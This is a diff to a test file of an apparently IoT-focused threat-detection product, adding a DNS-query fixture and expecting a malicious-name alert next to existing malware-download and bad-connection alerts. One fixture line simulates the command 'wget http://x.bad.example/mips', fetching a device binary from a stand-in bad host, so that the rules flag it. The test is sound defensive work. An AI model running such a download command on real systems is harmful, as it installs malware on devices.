@@ -10,7 +10,7 @@ from vedette.hub.detect.rules import BUILT_IN, load
 from vedette.hub.intel.indicators import indicator
 from vedette.hub.intel.lookback import look_back
 from vedette.hub.intel.store import Intel
-from vedette.wire.events import NetworkActivity
+from vedette.wire.events import DNS, NetworkActivity
 
 RULES = load(*(BUILT_IN / f"bad_{name}.yml" for name in ("address", "name", "download")), built_in=False)
 
@@ -34,6 +34,10 @@ def connection(address: str) -> NetworkActivity:
     )
 
 
+def query(name: str) -> DNS:
+    return DNS(query_name=name, query_type="A", response_code="NOERROR", responding_server="192.0.2.53")
+
+
 async def test_an_import_takes_effect_while_the_worker_runs(rig: Rig):
     """What was judged harmless is judged anew when it comes again; a removed list is asked no more."""
     worker = rig.worker()
@@ -45,14 +49,16 @@ async def test_an_import_takes_effect_while_the_worker_runs(rig: Rig):
     await rig.send(
         message(connection("203.0.113.66"), at=NOW + 60),
         message(process("wget http://x.bad.example/mips"), at=NOW + 60),
+        message(query("x.bad.example"), query("notbad.example"), at=NOW + 60),
     )
     rig.judge(NOW + 60, worker)
-    assert rig.types() == ["IoT_PossibleMalware", "IoT_TiConnection"]
+    names = ["IoT_MaliciousNameQueriesDetection", "IoT_PossibleMalware", "IoT_TiConnection"]
+    assert rig.types() == names
     assert [one.entity for one in rig.found() if one.type == "IoT_TiConnection"] == ["203.0.113.66"]
     intel.remove("a")
     await rig.send(message(connection("203.0.113.67"), at=NOW + 120))
     rig.judge(NOW + 120, worker)
-    assert len(rig.types()) == 2
+    assert rig.types() == names
 
 
 async def test_looking_back_raises_alerts_for_the_past_once(rig: Rig):
